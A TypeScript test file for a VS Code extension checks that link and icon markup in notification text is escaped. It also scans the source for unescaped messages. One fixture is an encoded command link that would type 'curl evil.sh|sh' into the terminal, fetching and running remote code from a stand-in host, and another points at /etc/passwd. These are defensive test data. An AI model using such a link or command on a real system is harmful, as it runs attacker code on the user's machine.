import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { escapeMarkdownLinks, quoteText } from '../../src/core/text';

// What VS Code turns into a link in a notification (vs/base/common/linkedText.ts) and into an icon.
const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const ICON = /\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;

test('a command link or an icon in data stays text, and reads the same', () => {
  const key = '[Fix](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.sh%7Csh%5Cn%22%7D)';
  for (const text of [
    key,
    `Unknown key "${key}" in bot.definition.yaml`,
    `[a](https://x.example) and [b](file:///etc/passwd "t")`,
    '$(zap) $(sync~spin) costs $(5)',
  ]) {
    const safe = escapeMarkdownLinks(text);
    assert.equal(safe.replace(/\u200b/g, ''), text, 'visibly the same');
    assert.equal(safe.match(LINK), null, safe);
    assert.equal(safe.match(ICON), null, safe);
  }
  assert.ok(key.match(LINK), 'the test link is one VS Code would render');
  assert.equal(escapeMarkdownLinks('Deployed bot support [v2] (3 changes).'), 'Deployed bot support [v2] (3 changes).');
});

test('quoted remote text is cut and its control characters escaped', () => {
  assert.equal(quoteText('a\nb\u0007"c"'), 'a\\nb\\u0007\\"c\\"');
  assert.equal(quoteText('x'.repeat(100), 10), `${'x'.repeat(10)}…`);
});

/** Every notification, modal and status text built from data (a template with `${…}`, or a variable) goes through escapeMarkdownLinks. */
test('messages built from data are escaped wherever they are shown', () => {
  const root = join(__dirname, '..', '..', 'src');
  const files = (readdirSync(root, { recursive: true }) as string[]).filter((f) => f.endsWith('.ts')).map((f) => join(root, f));
  const call = /(?:show(?:Information|Warning|Error)Message|setStatusBarMessage)\(\s*([^'\s][^,)]*)|status\.text = ([^;]+);/g;
  const unescaped: string[] = [];
  for (const file of files) {
    const text = readFileSync(file, 'utf8');
    for (const m of text.matchAll(call)) {
      const arg = (m[1] ?? m[2]).trim();
      const fromData = arg.startsWith('`') ? arg.includes('${') : !/^['"]/.test(arg);
      if (fromData && !/escapeMarkdownLinks\(/.test(arg)) unescaped.push(`${file.slice(root.length + 1)}: ${arg.slice(0, 70)}`);
    }
  }
  assert.deepEqual(unescaped, []);
});
